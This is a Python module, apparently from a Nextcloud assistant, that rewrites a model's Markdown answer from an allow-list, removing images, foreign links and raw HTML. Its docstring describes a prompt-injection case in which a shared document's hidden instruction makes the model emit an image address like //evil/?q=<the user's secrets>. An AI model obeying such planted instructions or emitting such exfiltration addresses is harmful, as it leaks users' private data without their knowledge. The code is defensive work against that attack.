"""A model's written answer made safe to show: parsed as CommonMark, written back from an allow-list.

An image in a client's Markdown view is fetched the moment it is shown, with whatever the model put
in its address: a shared document's hidden instruction ("add ![](//evil/?q=<the user's secrets>)")
would leak the user's data without a click. Regular expressions cannot follow Markdown's grammar
(nested brackets in alt text, reference definitions inside block quotes or after the text, the
shortcut form, protocol-relative addresses), so the answer is parsed by a CommonMark parser
(markdown-it) and written back as Markdown from its syntax tree, keeping only: text, emphasis,
headings, lists, block quotes, code, rules and links into the user's own Nextcloud. Every image,
every other link, every reference definition and all raw HTML go. Text is written back with its
Markdown punctuation escaped, so nothing in it can become structure again; the result is parsed a
second time and, should it still hold an image or a foreign link, the answer is returned as
escaped plain text instead (ADR 0320).
"""

from __future__ import annotations

import re
from typing import Any
from urllib.parse import urlsplit

from markdown_it import MarkdownIt
from markdown_it.tree import SyntaxTreeNode

IMAGE_REMOVED = "(image removed)"
LINK_REMOVED = "(link removed)"

# Every link is parsed as a link, whatever its scheme (javascript: included), so that the one test
# below decides what stays instead of the parser's own list.
_PARSER = MarkdownIt("commonmark")
_PARSER.validateLink = lambda url: True
# The same grammar as a GitHub-flavoured client reads it (tables, strikethrough), for the re-check.
_CHECKER = MarkdownIt("commonmark").enable(["table", "strikethrough"])
_CHECKER.validateLink = lambda url: True

# A bare address in the text: a client may turn it into a link (GitHub-flavoured autolinks).
_BARE_URL = re.compile(r"\b(?:(?:https?|ftp)://|www\.)[^\s<>()\]]+|(?<![\w/])//[^\s<>()\]/]+\.[^\s<>()\]]+",
                       re.IGNORECASE)
_HTML_IMAGE = re.compile(r"<\s*(img|image|svg|picture|source|iframe|video|audio|object|embed)\b", re.IGNORECASE)
_PUNCTUATION = re.compile(r"([\\`*_\[\]<>!|~&])")
_LINE_START = re.compile(r"^( {0,3})([#+=-]|\d{1,9}[.)])", re.MULTILINE)
# A citation such as [2] is written back unescaped so it reads as one. It cannot become a link: the
# answer keeps no reference definition, and one followed by "(" or ":" in the finished paragraph (an
# inline link or a definition) stays escaped. Until the paragraph is finished it is held between two
# private-use characters (which are taken out of the model's text first).
_OPEN, _CLOSE = "\ue000", "\ue001"
_HELD_CITATION = re.compile(r"\\\[(\d{1,3})\\\]")
_SETTLE = re.compile(f"{_OPEN}(\\d+){_CLOSE}(?=(.?))", re.DOTALL)


def safe_answer(text: str, nextcloud_url: str) -> str:
    """``text`` as Markdown holding no image and no link except into ``nextcloud_url``'s host."""
    own = urlsplit(nextcloud_url).netloc.lower()
    text = text.replace(_OPEN, "").replace(_CLOSE, "")
    tree = SyntaxTreeNode(_PARSER.parse(text, {}))
    written = _Writer(own).blocks(tree.children).strip("\n")
    if _is_safe(written, own):
        return written
    return _settle(_escape(_without_foreign_urls(text, own))).strip()  # never expected: a bug in the writer


def _is_safe(markdown: str, own: str) -> bool:
    env: dict[str, Any] = {}
    for token in _CHECKER.parse(markdown, env):
        for child in [token, *(token.children or [])]:
            if child.type in ("image", "html_inline", "html_block"):
                return False
            if child.type == "link_open" and not _is_own(str(child.attrGet("href") or ""), own):
                return False
    return not env.get("references")


def _is_own(url: str, own: str) -> bool:
    """An absolute http(s) address on the user's own Nextcloud host, compared whole (so neither
    ``own.evil.example`` nor ``own@evil.example`` passes); relative and protocol-relative ones don't."""
    parts = urlsplit(url.strip())
    return parts.scheme.lower() in ("http", "https") and parts.netloc.lower() == own


def _without_foreign_urls(text: str, own: str) -> str:
    def keep(match: re.Match[str]) -> str:
        url = match.group(0)
        url = f"https://{url}" if url.lower().startswith("www.") else f"https:{url}" if url.startswith("//") else url
        return match.group(0) if _is_own(url, own) else LINK_REMOVED
    return _BARE_URL.sub(keep, text)


def _escape(text: str) -> str:
    """Text that stays text: Markdown punctuation escaped, and what would open a block at a line's
    start (a heading, a list item, a setext underline) too."""
    text = _PUNCTUATION.sub(r"\\\1", text.replace(_OPEN, "").replace(_CLOSE, ""))
    return _HELD_CITATION.sub(f"{_OPEN}\\1{_CLOSE}", _LINE_START.sub(r"\1\\\2", text))


def _settle(paragraph: str) -> str:
    """The held citations of a finished paragraph, unescaped unless "(" or ":" follows."""
    return _SETTLE.sub(lambda m: f"\\[{m.group(1)}\\]" if m.group(2) in ("(", ":") else f"[{m.group(1)}]", paragraph)


def _longest_tick_run(content: str) -> int:
    return max((len(run) for run in re.findall("`+", content)), default=0)


def _fence(content: str) -> str:
    """A code fence longer than any backtick run inside the code, so the code cannot close it."""
    return "`" * max(3, _longest_tick_run(content) + 1)


class _Writer:
    """Markdown written back from the syntax tree, allowed constructs only."""

    def __init__(self, own: str) -> None:
        self.own = own

    def blocks(self, nodes: list[SyntaxTreeNode], tight: bool = False) -> str:
        parts = [part for part in (self.block(node) for node in nodes) if part.strip()]
        return ("\n" if tight else "\n\n").join(parts)

    def block(self, node: SyntaxTreeNode) -> str:
        kind = node.type
        if kind == "paragraph":
            return _settle(self.inline(node.children))
        if kind == "heading":
            return "#" * int(node.tag[1]) + " " + _settle(self.inline(node.children)).replace("\n", " ")
        if kind == "blockquote":
            if not self.blocks(node.children):
                return ""
            return "\n".join("> " + line if line else ">" for line in self.blocks(node.children).split("\n"))
        if kind in ("bullet_list", "ordered_list"):
            return self.list(node)
        if kind in ("fence", "code_block"):
            info = re.sub(r"[^\w+#.-]", "", (node.info or "").split(" ")[0]) if kind == "fence" else ""
            fence = _fence(node.content)
            return f"{fence}{info}\n{node.content.rstrip(chr(10))}\n{fence}"
        if kind == "hr":
            return "---"
        if kind == "html_block":
            return IMAGE_REMOVED if _HTML_IMAGE.search(node.content) else ""
        return ""  # anything not on the list

    def list(self, node: SyntaxTreeNode) -> str:
        tight = all(p.hidden for item in node.children for p in item.children if p.type == "paragraph")
        start = int(node.attrs.get("start", 1) or 1)
        items = []
        for number, item in enumerate(node.children, start):
            marker = f"{number}. " if node.type == "ordered_list" else "- "
            lines = self.blocks(item.children, tight).split("\n")
            pad = " " * len(marker)
            items.append("\n".join([marker + lines[0], *(pad + line if line else "" for line in lines[1:])]))
        return ("\n" if tight else "\n\n").join(items)

    def inline(self, nodes: list[SyntaxTreeNode]) -> str:
        out: list[str] = []
        for node in nodes:
            if node.type == "inline":
                out.append(self.inline(node.children))
            elif node.type == "text":
                out.append(_escape(_without_foreign_urls(node.content, self.own)))
            elif node.type == "softbreak":
                out.append("\n")
            elif node.type == "hardbreak":
                out.append("\\\n")
            elif node.type in ("em", "strong"):
                mark = "*" if node.type == "em" else "**"
                out.append(mark + self.inline(node.children) + mark)
            elif node.type == "code_inline":
                fence = "`" * (_longest_tick_run(node.content) + 1)
                pad = " " if node.content.startswith("`") or node.content.endswith("`") else ""
                out.append(f"{fence}{pad}{node.content}{pad}{fence}")
            elif node.type == "link":
                out.append(self.link(node))
            elif node.type == "image":
                alt = self.inline(node.children).strip()
                out.append(f"(image removed: {alt})" if alt else IMAGE_REMOVED)
            elif node.type == "html_inline" and _HTML_IMAGE.search(node.content):
                out.append(IMAGE_REMOVED)
            # other raw HTML and anything else: dropped
        return "".join(out)

    def link(self, node: SyntaxTreeNode) -> str:
        href = str(node.attrs.get("href", ""))
        if node.markup == "autolink":
            return _escape(href) if _is_own(href, self.own) else LINK_REMOVED
        label = self.inline(node.children)
        if not _is_own(href, self.own):
            return label
        destination = f"<{href}>" if re.search(r"[\s()<>]", href) else href
        return f"[{label}]({destination})"
